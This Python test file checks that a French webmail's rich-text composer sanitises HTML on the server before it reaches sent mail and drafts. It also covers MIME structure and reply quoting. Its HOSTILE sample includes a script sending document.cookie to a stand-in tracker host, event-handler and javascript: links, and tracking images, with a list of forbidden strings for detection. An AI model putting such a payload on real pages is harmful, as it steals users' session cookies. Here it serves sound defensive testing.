"""Sending and saving with "Mise en forme": the HTML is cleaned on the server before it
reaches the draft or the message, which goes as text/plain then text/html; checked on the
MIME parts Dovecot actually holds."""

from __future__ import annotations

from email.message import EmailMessage

from starlette.testclient import TestClient

from dev.stack import Stack
from tests.conftest import MailUser, deliver, imap_for, simple_mail, soup, wait_for_messages
from tests.views.forms import browser_form, parse, submit
from tests.views.test_drafts_open import drafts_uids

HOSTILE = (
    '<p onclick="steal()">Bonjour <b>Docteur</b>,</p>'
    '<script>fetch("https://pisteur.example/"+document.cookie)</script>'
    '<p style="background:url(https://pisteur.example/p.png)">Résultats '
    '<img src="https://pisteur.example/open.png"> '
    '<a href="javascript:steal()">ici</a> <a href="https://has-sante.fr/reco">la reco</a></p>'
    "<style>body{background:url(https://pisteur.example/s.png)}</style>"
    "<ul><li>Un</li><li>Deux</li></ul>"
)
FORBIDDEN = ("script", "onclick", "javascript", "url(", "<img", "pisteur", "steal")


def content(message: EmailMessage, kind: str) -> str:
    part = message.get_body((kind,))
    assert part is not None, f"no text/{kind} part"
    return str(part.get_content()).replace("\r\n", "\n")


def parts(message: EmailMessage) -> list[str]:
    return [part.get_content_type() for part in message.walk()]


def assert_clean(message: EmailMessage) -> None:
    html = content(message, "html")
    for word in FORBIDDEN:
        assert word not in html.lower(), word
    page = soup(html)
    assert page.select_one("b").get_text() == "Docteur"
    assert [a["href"] for a in page.select("a[href]")] == ["https://has-sante.fr/reco"]
    assert [li.get_text() for li in page.select("ul li")] == ["Un", "Deux"]
    for element in page.find_all(True):
        assert not any(name.startswith("on") for name in element.attrs)
    text = content(message, "plain")
    assert "Bonjour Docteur," in text
    assert "la reco <https://has-sante.fr/reco>" in text
    assert "- Un\n- Deux" in text
    for word in FORBIDDEN:
        assert word not in text.lower(), word


def test_hostile_html_never_reaches_the_message_sent(
    logged_in: TestClient, stack: Stack, user: MailUser, other_user: MailUser
) -> None:
    form = logged_in.get("/compose").text
    response = submit(
        logged_in, form, to=other_user.address, subject="Mise en forme", format="html",
        body_html=HOSTILE, body="(le texte du navigateur)",
    )  # fmt: skip
    assert response.status_code == 303, response.text
    [received] = wait_for_messages(stack, other_user)
    message = parse(received)
    assert parts(message) == ["multipart/alternative", "text/plain", "text/html"]
    assert_clean(message)
    assert "(le texte du navigateur)" not in received.decode()  # made from the HTML
    [sent] = wait_for_messages(stack, user, "Sent")
    assert_clean(parse(sent))


def test_hostile_html_never_reaches_the_draft_and_the_mode_is_kept(
    logged_in: TestClient, stack: Stack, user: MailUser, other_user: MailUser
) -> None:
    form = logged_in.get("/compose").text
    saved = submit(
        logged_in, form, to=other_user.address, subject="Brouillon riche", format="html",
        body_html=HOSTILE, action="save",
    )  # fmt: skip
    assert saved.status_code == 303, saved.text
    [uid] = drafts_uids(stack, user)
    imap = imap_for(stack, user)
    try:
        imap.select("Drafts", readonly=True)
        _typ, data = imap.uid("FETCH", str(uid), "(BODY.PEEK[])")
        raw = data[0][1]  # type: ignore[index]
    finally:
        imap.logout()
    assert_clean(parse(raw))
    reopened = soup(logged_in.get(f"/compose/draft?folder=Drafts&uid={uid}").text)
    mode = reopened.select_one("input[name=format]")
    markup = reopened.select_one("input[name=body_html]")
    assert mode is not None and mode["data-initial"] == "html"
    assert mode["value"] == ""  # set by the script only: without it, the textarea rules
    assert markup is not None and "<b>Docteur</b>" in str(markup["value"])
    for word in FORBIDDEN:
        assert word not in str(markup["value"]).lower()
    assert "Bonjour Docteur," in reopened.select_one("textarea[name=body]").get_text()


def test_with_a_file_the_alternative_sits_inside_the_mixed_message(
    logged_in: TestClient, stack: Stack, other_user: MailUser
) -> None:
    form = logged_in.get("/compose").text
    pdf = b"%PDF-1.4\n%%EOF\n"
    response = submit(
        logged_in, form, files=[("attachments", ("cr.pdf", pdf, "application/pdf"))],
        to=other_user.address, subject="Avec fichier", format="html",
        body_html="<p><i>Ci-joint</i></p>",
    )  # fmt: skip
    assert response.status_code == 303, response.text
    [received] = wait_for_messages(stack, other_user)
    message = parse(received)
    assert parts(message) == [
        "multipart/mixed", "multipart/alternative", "text/plain", "text/html", "application/pdf",
    ]  # fmt: skip
    assert content(message, "plain").strip() == "Ci-joint"


def test_plain_text_stays_plain_whatever_markup_is_posted(
    logged_in: TestClient, stack: Stack, other_user: MailUser
) -> None:
    form = logged_in.get("/compose").text
    submit(
        logged_in, form, to=other_user.address, subject="Texte", body="Texte seul",
        body_html="<p><b>périmé</b></p>",
    )  # fmt: skip
    [received] = wait_for_messages(stack, other_user)
    message = parse(received)
    assert parts(message) == ["text/plain"]
    assert message.get_content().strip() == "Texte seul"


def test_an_empty_editor_never_loses_the_words_of_the_textarea(
    logged_in: TestClient, stack: Stack, other_user: MailUser
) -> None:
    form = logged_in.get("/compose").text
    submit(
        logged_in, form, to=other_user.address, subject="Repli", format="html",
        body_html="<script>x</script>", body="Les mots\n\ntapés",
    )  # fmt: skip
    [received] = wait_for_messages(stack, other_user)
    message = parse(received)
    assert content(message, "plain").strip() == "Les mots\n\ntapés"
    html = soup(content(message, "html"))
    assert [p.get_text() for p in html.select("p")] == ["Les mots", "tapés"]


def test_a_reply_quotes_the_original_in_both_parts(
    logged_in: TestClient, stack: Stack, user: MailUser, other_user: MailUser
) -> None:
    deliver(stack, user, simple_mail(other_user.address, user.address, "Bilan", "Ligne <1>"))
    imap = imap_for(stack, user)
    try:
        imap.select("INBOX", readonly=True)
        _typ, data = imap.uid("SEARCH", "ALL")
        uid = data[0].split()[-1].decode()
    finally:
        imap.logout()
    form = logged_in.get(f"/compose?mode=reply&folder=INBOX&uid={uid}").text
    quoted = browser_form(form)["body"]
    assert "> Ligne <1>" in quoted
    # What the editor holds once "Mise en forme" is ticked: the text, as paragraphs.
    from webmail.mail.rich_text import from_text

    response = submit(
        logged_in, form, format="html", body_html="<p><b>Vu.</b></p>" + from_text(quoted)
    )
    assert response.status_code == 303, response.text
    [received] = wait_for_messages(stack, other_user)
    message = parse(received)
    assert message["In-Reply-To"]
    assert "> Ligne <1>" in content(message, "plain")
    assert "> Ligne <1>" in soup(content(message, "html")).get_text()
